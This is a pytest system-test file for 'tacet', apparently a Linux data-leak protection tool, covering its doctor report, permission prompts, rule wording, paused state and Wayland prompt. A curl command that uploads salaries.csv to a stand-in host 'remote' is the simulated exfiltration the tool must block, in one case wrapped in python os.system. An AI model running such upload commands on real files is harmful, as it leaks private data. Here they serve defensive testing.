# SPDX-License-Identifier: GPL-3.0-or-later
"""The windows as pictures in out/pictures, the promises of `tacet doctor`, and the prompt on Wayland."""

import pytest

from guest import Guest
from tests.system.conftest import PICTURES
from tests.system.leak_oracle import Secret
from tests.system.prompt import Prompt
from tests.system.remote import Remote
from tests.system.scene import Scene
from tests.system.tacet_cli import Tacet
from tests.system.widgets import CentredScreen

NEWEST_KERNEL_ONLY = True
UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
PROTECTIONS = {"labels", "label-index", "interposition", "doppelgangers", "channels", "disclosure", "questions", "shadow-files", "lasting-rules",
               "private-memory", "private-swap", "freed-memory", "kernel-memory", "host-names", "boot"}


@pytest.fixture
def picture(guest, kernel):
    """Saves the screen under a name."""
    def save(name):
        return guest.screenshot(PICTURES / kernel / f"{name}.png")

    return save


def test_doctor(scene):
    """Each protection is told: whether it is enforced and by what. On the full desktop all are."""
    report = scene.tacet.json("doctor", person=True)
    assert {item["name"] for item in report["protections"]} == PROTECTIONS
    for item in report["protections"]:
        assert item["enforced"] is True and item["by"] and item["detail"] == "", item
    assert report["module"] == "active" and report["daemon"]


@pytest.mark.nightly
def test_prompt_pictures(scene, picture):
    """The prompt with details closed and open; both show on the screen with the notification."""
    scene.label()
    attempt = scene.start(f"python3 -c 'import os; os.system(\"{UPLOAD}\")'")
    scene.prompt.wait()
    picture("prompt")
    scene.prompt.show_details()
    picture("prompt-details")
    text = scene.screen.texts("promptWindow")
    for word in ("Program:", "Command line:", "How sure:", "Would be sent:"):
        assert word in text, text
    scene.prompt.answer("block")
    attempt.finish()
    scene.assert_nothing_leaked()


@pytest.mark.nightly
def test_rule_in_words(scene, picture):
    """The prompt says the resulting rule in words before it is made."""
    scene.label()
    attempt = scene.start(UPLOAD)
    scene.prompt.wait()
    rule = scene.prompt.choose_duration(2).text
    picture("prompt-rule")
    assert "curl" in rule and "remote" in rule
    scene.prompt.answer("block")
    attempt.finish()
    assert [entry["duration"] for entry in scene.tacet.rules()] == ["15min"]


def test_window_pictures(scene, picture):
    """The main window's pages, with something on most."""
    scene.label()
    scene.tacet.run("rule", "add", "block", "--executable", "/usr/bin/curl", "--host", "remote")
    scene.run(UPLOAD)
    scene.run("cp salaries.csv copy.csv")
    for page, shown in (("files", "filesCount"), ("activity", "activityKind"), ("memory", "memoryPrograms"), ("rules", "editRuleButton")):
        scene.guest.run(["tacet-app", "--show", page], session=True, check=True)
        scene.screen.find(shown, "mainWindow")
        picture(f"window-{page}")
    scene.screen.close_window("mainWindow")


@pytest.mark.nightly
def test_daemon_absent_is_shown(scene, picture):
    """Without tacetd the window says so, and what to do."""
    scene.guest.run(["tacet-app", "--show", "files"], session=True, check=True)
    scene.guest.run("systemctl mask --runtime --now tacetd", check=True)
    try:
        scene.screen.find("retryButton", "mainWindow")
        picture("window-daemon-absent")
        assert "systemctl start tacetd" in scene.screen.texts("mainWindow")
    finally:
        scene.guest.run("systemctl unmask --runtime tacetd && systemctl start tacetd", check=True)
    scene.guest.wait_for(scene.app_is_agent, what="the app to register again")
    scene.screen.wait_gone("retryButton", "mainWindow")
    scene.screen.close_window("mainWindow")


@pytest.mark.nightly
def test_paused_is_shown(scene, picture):
    """A pause lets everything pass, and the window shows it and ends it."""
    scene.label()
    scene.secret.allowed = True
    scene.tacet.run("pause", "5")
    scene.guest.run(["tacet-app", "--show", "files"], session=True, check=True)
    scene.screen.find("resumeButton", "mainWindow")
    picture("window-paused")
    assert scene.run(UPLOAD).returncode == 0
    assert scene.decisions()[-1] == ("paused", "allow")
    scene.screen.click("resumeButton", "mainWindow")
    scene.screen.wait_gone("resumeButton", "mainWindow")
    scene.screen.close_window("mainWindow")
    scene.send_and_answer(UPLOAD, "block")


@pytest.mark.nightly
def test_wayland(kernel):
    """On Wayland the prompt appears too, and is answered with the keyboard after a click, as it takes none by itself."""
    with Guest(kernel, desktop="wayland") as guest:
        screen, remote = CentredScreen(guest), Remote(guest)
        remote.start()
        scene = Scene(guest, remote, Tacet(guest), Prompt(guest, screen), screen, Secret())
        scene.open()
        scene.label()
        attempt = scene.start(UPLOAD)
        assert "curl" in scene.prompt.wait()
        guest.screenshot(PICTURES / kernel / "wayland-prompt.png")
        scene.prompt.take_keyboard()
        guest.key("alt", "s")
        screen.wait_gone("", "promptWindow")
        assert attempt.finish().returncode == 0
        scene.assert_scrubbed_arrived()
        screen.close()
        guest.check_kernel_log()
